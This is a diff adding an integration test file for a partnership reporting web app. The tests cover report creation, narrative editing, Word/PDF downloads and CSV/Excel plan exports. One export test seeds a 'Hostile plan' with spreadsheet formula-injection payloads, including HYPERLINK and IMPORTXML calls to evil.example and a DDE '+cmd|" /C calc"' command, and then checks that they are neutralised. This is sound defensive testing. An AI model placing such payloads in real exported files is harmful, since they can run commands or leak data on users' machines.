@@ -1,0 +1,285 @@
+import ExcelJS from 'exceljs'
+import { parse } from 'csv-parse/sync'
+import type { Test } from 'supertest'
+import { afterAll, beforeAll, describe, expect, it } from 'vitest'
+
+import { aPartnership, aUser } from '../../../test/helpers/builders.ts'
+import { page } from '../../../test/helpers/html.ts'
+import { readDocx, readPdf } from '../../../test/helpers/read-documents.ts'
+import { createTestApp, type TestApp, type TestClient } from '../../../test/helpers/test-app.ts'
+import { insertPlan, JOINT_PLAN_2016 } from '../../../test/fixtures/joint-plan-2016.ts'
+
+let t: TestApp
+let partnership: Awaited<ReturnType<typeof aPartnership>>['partnership']
+let planId: number
+let coordinator: TestClient
+let member: TestClient
+let base: string
+
+/** Binary bodies for supertest: `.buffer(true).parse(binary)` gives a Buffer. */
+type Parser = Extract<Parameters<Test['parse']>[0], (res: never, callback: never) => void>
+const binary: Parser = (res, callback) => {
+  res.setEncoding('binary')
+  let data = ''
+  res.on('data', (chunk: string) => (data += chunk))
+  res.on('end', () => callback(null, Buffer.from(data, 'binary')))
+}
+
+beforeAll(async () => {
+  t = await createTestApp()
+  ;({ partnership } = await aPartnership(t, { name: 'Castle Point and Rochford Community Safety Partnership' }))
+  planId = await insertPlan(t.db, partnership.id, JOINT_PLAN_2016)
+  coordinator = await t.as(await aUser(t, { role: 'coordinator', partnershipId: partnership.id }))
+  member = await t.as(await aUser(t, { role: 'member', partnershipId: partnership.id }))
+  base = `/partnerships/${partnership.id}/reports`
+})
+afterAll(() => t.close())
+
+async function createQuarterly(quarter = '1') {
+  const res = await coordinator.post(`${base}/new`, { kind: 'quarterly_plan_update', planId: String(planId), quarter })
+  expect(res.status).toBe(303)
+  return Number(/\/reports\/(\d+)$/.exec(res.headers.location!)![1])
+}
+
+describe('creating a report', () => {
+  it('asks first for the kind of report, then for the details of that kind', async () => {
+    const choose = page((await coordinator.get(`${base}/new`).expect(200)).text)
+    expect(choose.$('h1').text().trim()).toBe('What kind of report do you want to create?')
+    expect(choose.all('.govuk-radios__label')).toEqual(['Quarterly partnership plan update', 'Annual report to the scrutiny committee', 'Performance table', 'Strategic assessment'])
+
+    const details = page((await coordinator.get(`${base}/new?kind=quarterly_plan_update`).expect(200)).text)
+    expect(details.h1()).toBe('New quarterly partnership plan update')
+    expect(details.all('#planId option')).toEqual(['Partnership Plan 2016/17 (2016/17)'])
+    expect(details.$('input[name="quarter"]')).toHaveLength(4)
+    expect(details.$('#year')).toHaveLength(0)
+  })
+
+  it('when no kind is chosen, then it says so', async () => {
+    const res = await coordinator.get(`${base}/new?kind=`).expect(400)
+    expect(page(res.text).errorSummary()).toEqual([{ text: 'Select the kind of report', href: '#kind' }])
+  })
+
+  it('when the plan or quarter is missing, then each gets its own message and nothing is saved', async () => {
+    const before = await t.db.selectFrom('reports').select(eb => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()
+    const res = await coordinator.post(`${base}/new`, { kind: 'quarterly_plan_update', planId: '', quarter: '' })
+    expect(res.status).toBe(400)
+    expect(page(res.text).errorSummary()).toEqual([
+      { text: 'Select the plan the report is about', href: '#planId' },
+      { text: 'Select the quarter', href: '#quarter' },
+    ])
+    expect(await t.db.selectFrom('reports').select(eb => eb.fn.countAll().as('n')).executeTakeFirstOrThrow()).toEqual(before)
+  })
+
+  it('when the meeting date is not a real date, then the error links to its day box', async () => {
+    const res = await coordinator.post(`${base}/new`, { kind: 'annual_scrutiny_report', planId: String(planId), 'meetingDate-day': '31', 'meetingDate-month': '2', 'meetingDate-year': '2016' })
+    expect(res.status).toBe(400)
+    expect(page(res.text).errorSummary()).toEqual([{ text: 'Meeting date must be a real date, for example 6 9 2016', href: '#meetingDate-day' }])
+    expect(page(res.text).fieldValue('meetingDate-day')).toBe('31')
+  })
+
+  it('saves the report with a title from its period and the starting words, and records it in the audit log', async () => {
+    const id = await createQuarterly()
+    const report = await t.db.selectFrom('reports').selectAll().where('id', '=', id).executeTakeFirstOrThrow()
+    expect(report).toMatchObject({ kind: 'quarterly_plan_update', title: 'Partnership Plan 2016/17: 1st Quarter Update', planId, year: 2016, quarter: 1, status: 'draft' })
+    expect(report.narrative.introduction).toMatch(/^The purpose of the Castle Point and Rochford Community Safety Partnership is/)
+    const audit = await t.db.selectFrom('auditEvents').selectAll().where('entityType', '=', 'report').where('entityId', '=', String(id)).execute()
+    expect(audit.map(a => [a.action, a.summary])).toEqual([['create', 'Created report “Partnership Plan 2016/17: 1st Quarter Update”']])
+
+    const shown = page((await coordinator.get(`${base}/${id}`).expect(200)).text)
+    expect(shown.h1()).toBe('Partnership Plan 2016/17: 1st Quarter Update')
+    expect(shown.banner()).toBe('Report added. Write its narrative sections next.')
+    expect(shown.all('[data-qa="report-details"] .govuk-summary-list__value')).toEqual(
+      expect.arrayContaining(['Quarterly partnership plan update', 'Q1 2016/17 (April to June 2016)', 'Partnership Plan 2016/17', 'Draft']),
+    )
+    expect(shown.all('[data-qa="generated-parts"] li')).toEqual(['The plan “Partnership Plan 2016/17”: 3 priorities and 40 actions, with their RAG statuses and updates.'])
+  })
+
+  it('starts a second report of a kind from the narrative of the last one', async () => {
+    const first = await createQuarterly('2')
+    await coordinator.post(`${base}/${first}/narrative`, { introduction: 'Our own introduction', summary: 'Q2 went well' }).expect(303)
+    const second = await createQuarterly('3')
+    const report = await t.db.selectFrom('reports').select('narrative').where('id', '=', second).executeTakeFirstOrThrow()
+    expect(report.narrative).toEqual({ introduction: 'Our own introduction', summary: 'Q2 went well' })
+    expect(page((await coordinator.get(`${base}/${second}`)).text).banner()).toMatch(/starts from your last report of this kind/)
+  })
+})
+
+describe('writing the narrative and the details', () => {
+  it('saves each section and audits the change with before and after', async () => {
+    const id = await createQuarterly()
+    const { narrative: before } = await t.db.selectFrom('reports').select('narrative').where('id', '=', id).executeTakeFirstOrThrow()
+    const form = page((await coordinator.get(`${base}/${id}/narrative`).expect(200)).text)
+    expect(form.all('label.govuk-label')).toEqual(['Introduction (optional)', 'Summary of progress (optional)'])
+    await coordinator.post(`${base}/${id}/narrative`, { introduction: 'The partnership brings agencies together.', summary: '- Most actions on track' }).expect(303)
+    const audit = await t.db.selectFrom('auditEvents').selectAll().where('entityType', '=', 'report').where('entityId', '=', String(id)).where('action', '=', 'update').executeTakeFirstOrThrow()
+    expect((audit.after as { narrative: Record<string, string> }).narrative).toEqual({ introduction: 'The partnership brings agencies together.', summary: '- Most actions on track' })
+    expect((audit.before as { narrative: Record<string, string> }).narrative).toEqual(before)
+  })
+
+  it('will not mark an annual report final while a required section is empty', async () => {
+    const res = await coordinator.post(`${base}/new`, { kind: 'annual_scrutiny_report', planId: String(planId), committee: 'Review Committee', 'meetingDate-day': '6', 'meetingDate-month': '9', 'meetingDate-year': '2016' })
+    const id = Number(/(\d+)$/.exec(res.headers.location!)![1])
+    const refused = await coordinator.post(`${base}/${id}/edit`, { planId: String(planId), committee: 'Review Committee', status: 'final' })
+    expect(refused.status).toBe(400)
+    expect(page(refused.text).errorSummary()).toEqual([
+      { text: 'Before marking the report final, write these sections: “Background”, “Risk implications”, “Resource implications”', href: '#status' },
+    ])
+    await coordinator.post(`${base}/${id}/narrative`, { ...(await t.db.selectFrom('reports').select('narrative').where('id', '=', id).executeTakeFirstOrThrow()).narrative, background: 'b', risk: 'r', resources: 'A part-time officer.' }).expect(303)
+    await coordinator.post(`${base}/${id}/edit`, { planId: String(planId), committee: 'Review Committee', status: 'final' }).expect(303)
+    const report = await t.db.selectFrom('reports').selectAll().where('id', '=', id).executeTakeFirstOrThrow()
+    expect(report.status).toBe('final')
+    expect(report.finalisedAt).toEqual(t.clock.now())
+    expect(report.meetingDate).toBeNull() // the edit form sent no date
+    // A final report keeps its required sections.
+    const emptied = await coordinator.post(`${base}/${id}/narrative`, { ...report.narrative, risk: '' })
+    expect(emptied.status).toBe(400)
+    expect(page(emptied.text).errorSummary()).toEqual([{ text: 'A final report needs this section. Write it, or change the report back to a draft first', href: '#risk' }])
+  })
+
+  it('lets members read and download but not change reports', async () => {
+    const id = await createQuarterly()
+    await member.get(`${base}/${id}`).expect(200)
+    await member.get(`${base}/${id}/document.pdf`).expect(200)
+    await member.get(`${base}/${id}/narrative`).expect(403)
+    await member.post(`${base}/${id}/narrative`, { introduction: 'x' }).expect(403)
+    expect(page((await member.get(`${base}/${id}`)).text).$('a[href$="/narrative"]')).toHaveLength(0)
+  })
+})
+
+describe('downloading the quarterly update', () => {
+  let id: number
+  beforeAll(async () => {
+    id = await createQuarterly()
+    await coordinator.post(`${base}/${id}/narrative`, { introduction: 'The purpose of the Community Safety Partnership is to provide a strategic and co-operative approach.', summary: '' }).expect(303)
+  })
+
+  it('gives a Word document with the plan’s actions, their Q1 updates and RAG from the records', async () => {
+    const res = await coordinator.get(`${base}/${id}/document.docx`).buffer(true).parse(binary).expect(200)
+    expect(res.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.wordprocessingml.document')
+    expect(res.headers['content-disposition']).toBe('attachment; filename="castle-point-and-rochford-community-safety-partnership-partnership-plan-2016-17-1st-quarter-update.docx"')
+    const docx = await readDocx(res.body as Buffer)
+    expect(docx.paragraphs[0]!.text).toBe('Partnership Plan 2016/17: 1st Quarter Update')
+    expect(docx.text).toContain('The purpose of the Community Safety Partnership is to provide a strategic and co-operative approach.')
+    const table = docx.tables[docx.captions.findIndex(c => c.startsWith('Priority 2: Anti-Social Behaviour'))]!
+    expect(table.headerRows).toBe(1)
+    const taxi = table.rows.find(row => row[0]!.startsWith('Continue to support taxi Marshalls'))!
+    expect(taxi[4]).toContain('June – scheme closed.')
+    expect(taxi[5]).toBe('Amber')
+    expect(docx.sections).toEqual(['portrait', 'landscape'])
+  })
+
+  it('gives a PDF with the same figures, and follows the records when they change', async () => {
+    const read = async () => readPdf((await coordinator.get(`${base}/${id}/document.pdf`).buffer(true).parse(binary).expect(200)).body as Buffer)
+    const before = await read()
+    expect(before.flat).toContain('Of the 40 actions in Q1 2016/17 (April to June 2016), 6 green, 5 amber, 1 complete (blue) and 28 have no update.')
+    // A lead posts a red update for Q1 on an action that had none.
+    const action = await t.db.selectFrom('actions').select(['id', 'partnershipId']).where('title', 'like', 'Op Benison%').where('partnershipId', '=', partnership.id).executeTakeFirstOrThrow()
+    await t.db.insertInto('actionUpdates').values({ partnershipId: action.partnershipId, actionId: action.id, quarter: 1, body: 'Visits paused: no licensing officer', rag: 'red', authorLabel: 'Essex Police' }).execute()
+    const after = await read()
+    expect(after.flat).toContain('Of the 40 actions in Q1 2016/17 (April to June 2016), 6 green, 5 amber, 1 red, 1 complete (blue) and 27 have no update.')
+    expect(after.flat).toContain('Visits paused: no licensing officer')
+  })
+
+  it('shows the document in the browser to print, with its tables and RAG tags', async () => {
+    const res = await coordinator.get(`${base}/${id}/print`).expect(200)
+    const p = page(res.text)
+    expect(p.h1()).toBe('Partnership Plan 2016/17: 1st Quarter Update')
+    expect(p.$('h1')).toHaveLength(1)
+    expect(p.all('.app-document h2')).toEqual(expect.arrayContaining(['Priority 1: Safeguarding Vulnerable People from Harm', 'Summary of progress']))
+    expect(p.$('section.app-document__section--landscape')).toHaveLength(3)
+    expect(p.$('.app-document .app-rag-tag[data-rag="amber"]').length).toBeGreaterThan(0)
+    expect(p.$('.app-no-print').text()).toContain('Print command')
+  })
+})
+
+describe('exporting the plan', () => {
+  let hostilePlan: number
+  beforeAll(async () => {
+    hostilePlan = await insertPlan(t.db, partnership.id, {
+      title: 'Hostile plan',
+      planYear: 2017,
+      priorities: [
+        {
+          title: '=HYPERLINK("http://evil.example","Click")',
+          subThemes: [],
+          objectives: [
+            {
+              title: '@SUM(A1:A9)',
+              actions: [{ title: '+cmd|" /C calc"!A0', outcomes: ['-2+3'], leads: [], leadNote: '\t=1+1', quarters: [1], updates: [{ quarter: 1, body: '=IMPORTXML("http://evil.example")', rag: 'red', author: '=evil()' }] }],
+            },
+          ],
+        },
+      ],
+    })
+  })
+
+  it('lists the plans with their CSV and Excel links', async () => {
+    const p = page((await member.get(`${base}/exports`).expect(200)).text)
+    expect(p.all('[data-qa="plan-exports"] tbody th')).toEqual(['Hostile plan', 'Partnership Plan 2016/17'])
+    expect(p.$(`a[href="${base}/exports/plans/${planId}/actions.xlsx"]`)).toHaveLength(1)
+  })
+
+  it('gives every action in a CSV, with the current RAG and latest update', async () => {
+    const res = await member.get(`${base}/exports/plans/${planId}/actions.csv`).expect(200)
+    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8')
+    const rows = parse(res.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
+    expect(rows[0]!.slice(0, 6)).toEqual(['Priority number', 'Priority', 'Objective number', 'Strategic objective', 'Action number', 'Action'])
+    const actions = rows.slice(1).filter(r => r.length > 1)
+    expect(actions).toHaveLength(40)
+    const crucial = actions.find(r => r[5]!.startsWith('‘Crucial Crew’'))!
+    expect(crucial[rows[0]!.indexOf('Current RAG')]).toBe('Blue')
+  })
+
+  it('neutralises cells a spreadsheet would run as formulas, in CSV and XLSX', async () => {
+    const csv = await member.get(`${base}/exports/plans/${hostilePlan}/actions.csv`).expect(200)
+    const [header, row] = parse(csv.text.replace(/^\uFEFF/, ''), { relax_column_count: true }) as string[][]
+    const cell = (name: string) => row![header!.indexOf(name)]
+    expect(cell('Priority')).toBe('\'=HYPERLINK("http://evil.example","Click")')
+    expect(cell('Strategic objective')).toBe("'@SUM(A1:A9)")
+    expect(cell('Action')).toBe('\'+cmd|" /C calc"!A0')
+    expect(cell('Outcomes / measures')).toBe("'-2+3")
+    expect(cell('Lead note')).toBe("'\t=1+1")
+    expect(cell('Latest update')).toBe('\'=IMPORTXML("http://evil.example")')
+    expect(cell('Latest update by')).toBe("'=evil()")
+
+    const xlsx = await member.get(`${base}/exports/plans/${hostilePlan}/actions.xlsx`).buffer(true).parse(binary).expect(200)
+    const workbook = new ExcelJS.Workbook()
+    await workbook.xlsx.load(xlsx.body as never)
+    expect(workbook.worksheets.map(s => s.name)).toEqual(['Actions', 'Priorities'])
+    const sheet = workbook.getWorksheet('Actions')!
+    const values = (sheet.getRow(2).values as unknown[]).slice(1)
+    expect(values).toEqual(expect.arrayContaining(['\'=HYPERLINK("http://evil.example","Click")', '\'+cmd|" /C calc"!A0', '\'=IMPORTXML("http://evil.example")']))
+    sheet.eachRow(r => r.eachCell(c => expect(c.formula).toBeUndefined()))
+    expect(workbook.getWorksheet('Priorities')!.getRow(2).getCell(2).value).toBe('\'=HYPERLINK("http://evil.example","Click")')
+  })
+
+  it('is a 404 for a plan of another partnership', async () => {
+    const other = await aPartnership(t)
+    const otherPlan = await insertPlan(t.db, other.partnership.id, { title: 'Other plan', planYear: 2016, priorities: [] })
+    await member.get(`${base}/exports/plans/${otherPlan}/actions.csv`).expect(404)
+  })
+})
+
+describe('a report whose plan is deleted', () => {
+  it('says so on its page and cannot be downloaded until another plan is chosen', async () => {
+    const doomed = await insertPlan(t.db, partnership.id, { title: 'Doomed plan', planYear: 2018, priorities: [] })
+    const res = await coordinator.post(`${base}/new`, { kind: 'quarterly_plan_update', planId: String(doomed), quarter: '1' })
+    const id = Number(/(\d+)$/.exec(res.headers.location!)![1])
+    await t.db.deleteFrom('plans').where('id', '=', doomed).execute()
+    expect(page((await coordinator.get(`${base}/${id}`).expect(200)).text).text('.govuk-warning-text')).toContain('The plan this report was about has been deleted')
+    const refused = await coordinator.get(`${base}/${id}/document.docx`).expect(409)
+    expect(page(refused.text).text('main')).toContain('Change the report’s details to choose another plan')
+  })
+})
+
+describe('deleting a report', () => {
+  it('asks first, then deletes it and records what it held', async () => {
+    const id = await createQuarterly()
+    const confirm = page((await coordinator.get(`${base}/${id}/delete`).expect(200)).text)
+    expect(confirm.h1()).toBe('Are you sure you want to delete the report “Partnership Plan 2016/17: 1st Quarter Update”?')
+    await coordinator.post(`${base}/${id}/delete`).expect(303)
+    expect(await t.db.selectFrom('reports').select('id').where('id', '=', id).executeTakeFirst()).toBeUndefined()
+    const audit = await t.db.selectFrom('auditEvents').selectAll().where('entityType', '=', 'report').where('entityId', '=', String(id)).where('action', '=', 'delete').executeTakeFirstOrThrow()
+    expect((audit.before as { title: string }).title).toBe('Partnership Plan 2016/17: 1st Quarter Update')
+  })
+})
